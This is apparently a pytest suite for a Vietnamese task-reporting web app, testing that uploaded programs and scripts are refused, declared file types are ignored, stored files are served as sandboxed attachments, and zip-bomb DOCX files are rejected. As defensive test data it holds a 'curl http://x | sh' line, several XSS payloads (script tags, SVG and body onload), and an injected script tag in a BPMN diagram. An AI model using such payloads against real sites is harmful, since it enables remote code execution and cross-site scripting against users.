"""Through the web UI: evidence is accepted by its content only (a program or a script
is refused next to the file field, the rest of the form kept; a PDF declared as
``text/ecmascript`` is stored and served as a PDF); files stored before these checks
are served safely whatever type they were recorded with; the raw diagram is never a
page; a DOCX that unpacks to 400 MB is refused at upload with a message; a 1.4 MB text
in a form field gets the field's length message in the form instead of a bare 413."""
from __future__ import annotations

import hashlib
import io
import re

import pytest

from engine.domain.records import EvidenceFile
from tests.file_samples import docx_bomb, exe_bytes, pdf_bytes
from tests.web.task_helpers import (accepted_task, field_error, filed_reports, pending, pending_names, reports,
                                    sign_in, start_task, text_of)


def post_report(browser, services, instance_id, files, **fields):
    step = pending(services, instance_id, "monthly_report")
    data = {"percent": "25", "done": "Đã khảo sát 5 đơn vị", **fields,
            "evidence": [(io.BytesIO(content), name, declared) for name, content, declared in files]}
    return browser.post(f"/steps/{step.id}", data, content_type="multipart/form-data")


@pytest.mark.parametrize("name, content, declared, shown", [
    ("cai-dat.exe", exe_bytes(), "application/x-msdownload", "«.exe»"),
    ("bao-cao.pdf", exe_bytes(), "application/pdf", "EXE"),
    ("tien-ich.js", b"fetch('/account').then(r => r.text())", "text/javascript", "«.js»"),
    ("chay.sh", b"#!/bin/sh\ncurl http://x | sh", "application/x-sh", "«.sh»"),
    ("giao-dien.xsl", b"<xsl:stylesheet version='1.0'/>", "text/xsl", "«.xsl»"),
])
def test_a_program_or_script_is_refused_beside_the_file_field(browser, services, name, content, declared, shown):
    instance_id = accepted_task(services)
    sign_in(browser, "cv.khcn")
    before = reports(services, instance_id), pending_names(services, instance_id)
    response = post_report(browser, services, instance_id, [(name, content, declared)], problems="Thiếu kinh phí")
    assert response.status_code == 400
    message = field_error(response, "evidence")
    assert message and name in message and shown in message
    assert "Thiếu kinh phí" in text_of(response)                   # the rest of the form is kept
    assert (reports(services, instance_id), pending_names(services, instance_id)) == before   # nothing changed
    assert filed_reports(services, instance_id) == []
    with services.uow(write=False) as uow:
        assert uow.evidence.by_hash(hashlib.sha256(content).hexdigest()) == []


@pytest.mark.parametrize("declared", ["text/ecmascript", "application/x-javascript", "text/javascript1.5",
                                      "text/xsl", "text/html"])
def test_the_declared_type_is_ignored(browser, services, declared):
    instance_id = accepted_task(services)
    sign_in(browser, "cv.khcn")
    pdf = pdf_bytes()
    assert post_report(browser, services, instance_id, [("bien-ban.pdf", pdf, declared)]).status_code == 302
    [evidence] = reports(services, instance_id)[0].versions[0].evidence
    assert evidence["content_type"] == "application/pdf"
    response = browser.get(f"/evidence/{evidence['sha256']}?instance={instance_id}")
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("recorded, content, served", [
    ("text/ecmascript", b"alert(document.domain)", "text/plain"),
    ("application/x-javascript", b"<script>alert(1)</script>", "application/octet-stream"),
    ("text/html", b"<html><body onload=alert(1)>", "application/octet-stream"),
    ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "application/octet-stream"),
    ("application/x-ms-dos-executable", exe_bytes(), "application/octet-stream"),
])
def test_a_file_stored_before_the_checks_is_served_safely(browser, services, recorded, content, served):
    instance_id = start_task(services)
    sha = services.blobs.put(content)
    with services.uow() as uow:
        uow.evidence.add(EvidenceFile(sha256=sha, filename="cu.js", size=len(content), content_type=recorded,
                                      uploaded_by="cv.khcn", uploaded_at=services.clock.now(),
                                      instance_id=instance_id))
        uow.commit()
    sign_in(browser, "thanhtra")
    response = browser.get(f"/evidence/{sha}?instance={instance_id}")
    assert response.status_code == 200 and response.data == content
    assert response.mimetype == served
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("sandbox")


def test_the_raw_diagram_is_never_served_as_a_page(browser, services):
    instance_id = start_task(services)
    sign_in(browser, "ld.khcn")
    response = browser.get(f"/tasks/{instance_id}/diagram.bpmn")
    assert response.status_code == 200 and b"<bpmn:definitions" in response.data
    assert response.mimetype == "text/plain"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("sandbox")


def test_a_docx_that_unpacks_to_400_mb_is_refused_at_upload(browser, services):
    sign_in(browser, "theodoi")
    token = browser.csrf("/directives/import")
    response = browser.client.post("/directives/import", content_type="multipart/form-data",
                                   data={"csrf_token": token, "file": (io.BytesIO(docx_bomb()), "chi-thi.docx")})
    assert response.status_code == 400
    assert "word/document.xml" in text_of(response) and "400 MB" in text_of(response)


def test_a_huge_text_in_a_field_gets_the_fields_length_message(browser, services):
    instance_id = accepted_task(services)
    sign_in(browser, "cv.khcn")
    step = pending(services, instance_id, "monthly_report")
    before = reports(services, instance_id), pending_names(services, instance_id)
    pasted = "Đã khảo sát. " * 110_000                   # about 1.4 MB
    assert len(pasted.encode("utf-8")) > 1_400_000
    response = browser.post(f"/steps/{step.id}", {"percent": "35", "done": pasted, "problems": "Thiếu kinh phí",
                                                  "evidence": (io.BytesIO(b""), "")},
                            content_type="multipart/form-data")
    assert response.status_code == 400
    assert "4000" in (field_error(response, "done") or "")
    assert re.search(r'name="percent"[^>]*value="35"', text_of(response))
    assert "Thiếu kinh phí" in text_of(response)
    assert (reports(services, instance_id), pending_names(services, instance_id)) == before   # nothing changed
    assert filed_reports(services, instance_id) == []


def test_a_diagram_stored_before_the_markup_checks_still_runs_and_is_never_a_page(browser, services):
    from pathlib import Path

    from engine.bpmn.definitions import sha256_of
    from engine.domain.records import ProcessVersion
    from engine.domain.time_rules import DEFAULT_PARAMETERS

    xml = (Path(__file__).resolve().parents[2] / "workflows" / "directive_task.bpmn").read_text(encoding="utf-8")
    xml = xml.replace('<bpmn:process id="directive_task"', '<html:script xmlns:html="http://www.w3.org/1999/xhtml" '
                      'src="/evidence/x"></html:script><bpmn:process id="directive_task"', 1)
    with services.uow() as uow:
        uow.processes.add(ProcessVersion(key="directive_task", version=0, xml=xml, sha256=sha256_of(xml),
                                         parameters=dict(DEFAULT_PARAMETERS), deployed_by="admin",
                                         deployed_at=services.clock.now()))
        uow.commit()
    instance_id = accepted_task(services)              # started on that version, and accepted
    sign_in(browser, "ld.khcn")
    response = browser.get(f"/tasks/{instance_id}/diagram.bpmn")
    assert b"<html:script" in response.data
    assert response.mimetype == "text/plain" and response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Content-Security-Policy"].startswith("sandbox")
